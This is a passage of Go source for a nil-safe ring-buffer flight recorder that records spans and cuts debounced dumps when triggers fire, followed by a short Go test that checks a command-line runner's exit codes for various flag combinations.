	return &FlightRecorder{
		buf:      make([]Span, capacity),
		dumps:    make([]Dump, 0, maxDumps),
		maxDumps: maxDumps,
	}
}

// Enabled reports whether the recorder records anything; the idiomatic
// nil check.
func (f *FlightRecorder) Enabled() bool { return f != nil }

// Record pushes one span into the ring, evicting the oldest when full.
// Nil-safe; the disabled path is one branch.
//
//xlf:hotpath
func (f *FlightRecorder) Record(s Span) {
	if f == nil {
		return
	}
	f.mu.Lock()
	f.buf[f.head] = s
	f.head++
	if f.head == len(f.buf) {
		f.head = 0
	}
	if f.n < len(f.buf) {
		f.n++
	}
	f.mu.Unlock()
}

// Trigger marks a trigger class as fired at the given sim time. The dump
// itself is cut by the next Flush; repeated fires of the same class
// before that flush are counted but produce no extra dump (the
// once-per-window debounce). Nil-safe, allocation-free.
//
//xlf:hotpath
func (f *FlightRecorder) Trigger(at time.Duration, tr Trigger) {
	if f == nil || tr >= numTriggers {
		return
	}
	f.mu.Lock()
	f.pending[tr]++
	f.triggered++
	f.mu.Unlock()
}

// Flush cuts a dump if any trigger fired since the previous flush,
// clearing the pending state either way, and reports whether a dump was
// cut. The rollup tick calls it once per window. Cold path: the dump
// copies the ring. Nil-safe.
func (f *FlightRecorder) Flush(now time.Duration) bool {
	if f == nil {
		return false
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	fires := uint64(0)
	distinct := uint64(0)
	for _, c := range f.pending {
		fires += c
		if c > 0 {
			distinct++
		}
	}
	if fires == 0 {
		return false
	}
	if len(f.dumps) >= f.maxDumps {
		f.droppedDumps++
		f.pending = [numTriggers]uint64{}
		return false
	}
	d := Dump{
		Time:       now,
		Reasons:    make([]string, 0, distinct),
		Suppressed: fires - distinct,
		Spans:      make([]Span, 0, f.n),
	}
	for tr := Trigger(0); tr < numTriggers; tr++ {
		if f.pending[tr] > 0 {
			d.Reasons = append(d.Reasons, tr.String())
		}
	}
	start := f.head - f.n
	if start < 0 {
		start += len(f.buf)
	}
	for i := 0; i < f.n; i++ {
		d.Spans = append(d.Spans, f.buf[(start+i)%len(f.buf)])
	}
	f.dumps = append(f.dumps, d)
	f.pending = [numTriggers]uint64{}
	return true
}

// Dumps returns a copy of the retained dumps in cut order. Nil-safe.
func (f *FlightRecorder) Dumps() []Dump {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	out := make([]Dump, len(f.dumps))
	for i, d := range f.dumps {
		d.Reasons = append([]string(nil), d.Reasons...)
		d.Spans = append([]Span(nil), d.Spans...)
		out[i] = d
	}
	return out
}

// Triggered returns the total trigger fires over the recorder's life.
// Nil-safe.
func (f *FlightRecorder) Triggered() uint64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.triggered
}

// DroppedDumps returns how many dumps the maxDumps bound discarded.
// Nil-safe.
func (f *FlightRecorder) DroppedDumps() uint64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.droppedDumps
}

// Len returns the number of spans currently in the ring. Nil-safe.
func (f *FlightRecorder) Len() int {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.n
}
