package main

import "testing"

func TestRunFlagValidation(t *testing.T) {
	cases := []struct {
		args []string
		want int
	}{
		{[]string{}, 2},               // nothing selected
		{[]string{"-list"}, 0},        // listing
		{[]string{"-table", "9"}, 2},  // out of range
		{[]string{"-figure", "0"}, 2}, // not selected -> usage
		{[]string{"-figure", "9"}, 2}, // out of range
		{[]string{"-exp", "E99"}, 2},  // unknown experiment
		{[]string{"-bogusflag"}, 2},   // parse error
		{[]string{"-figure", "2"}, 0}, // cheap figure renders
		{[]string{"-table", "3"}, 0},  // cipher table measures
		{[]string{"-exp", "E6", "-seed", "3"}, 0},
	}
	for _, tc := range cases {
		if got := run(tc.args); got != tc.want {
			t.Errorf("run(%v) = %d, want %d", tc.args, got, tc.want)
		}
	}
}
